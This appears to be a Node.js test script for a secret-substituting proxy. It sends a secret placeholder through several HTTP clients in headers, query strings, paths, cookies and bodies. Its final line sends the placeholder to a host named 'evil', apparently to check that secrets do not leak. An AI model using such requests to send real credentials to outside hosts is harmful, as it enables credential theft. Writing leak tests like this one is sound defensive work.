// Node: its own fetch, undici, axios or got, as the fourth argument says.
import assert from 'node:assert';

const [base, evil, address, api] = process.argv.slice(2);
const ref = '{secrets.crm.apiKey}';

async function sender() {
  if (api === 'fetch') return viaFetch(fetch);
  if (api === 'undici') {
    const undici = await import('undici');
    undici.setGlobalDispatcher(new undici.EnvHttpProxyAgent());
    return viaFetch(undici.fetch);
  }
  if (api === 'axios') {
    const { default: axios } = await import('axios');
    return async (method, url, headers = {}, data = undefined) => {
      const answer = await axios({ method, url, headers, data, responseType: 'text', validateStatus: () => true, transformResponse: text => text });
      return [answer.status, answer.data];
    };
  }
  const { default: got } = await import('got');
  return async (method, url, headers = {}, body = undefined) => {
    const answer = await got(url, { method, headers, body, throwHttpErrors: false, retry: { limit: 0 } });
    return [answer.statusCode, answer.body];
  };
}

function viaFetch(fetch) {
  return async (method, url, headers = {}, body = undefined) => {
    const answer = await fetch(url, { method, headers, body });
    return [answer.status, await answer.text()];
  };
}

const send = await sender();
const ok = async (...request) => {
  const [status, text] = await send(...request);
  assert.strictEqual(status, 200, text);
};
await ok('GET', base + '/header', { 'X-Api-Key': ref });
await ok('GET', base + '/bearer', { Authorization: 'Bearer ' + ref });
await ok('GET', base + '/query?k=' + encodeURIComponent(ref));
await ok('GET', base + '/path/' + ref + '/x');
await ok('GET', base + '/basic', { Authorization: 'Basic ' + Buffer.from('me:' + ref).toString('base64') });
await ok('GET', base + '/cookie', { Cookie: 's=' + ref });
await ok('POST', base + '/json', { 'Content-Type': 'application/json' }, JSON.stringify({ k: ref }));
await ok('POST', base + '/form', { 'Content-Type': 'application/x-www-form-urlencoded' }, new URLSearchParams({ k: ref }).toString());
await ok('GET', address + '/address', { 'X-Api-Key': '{secrets.open}' });
console.log((await send('GET', evil + '/', { X: ref }))[1]);
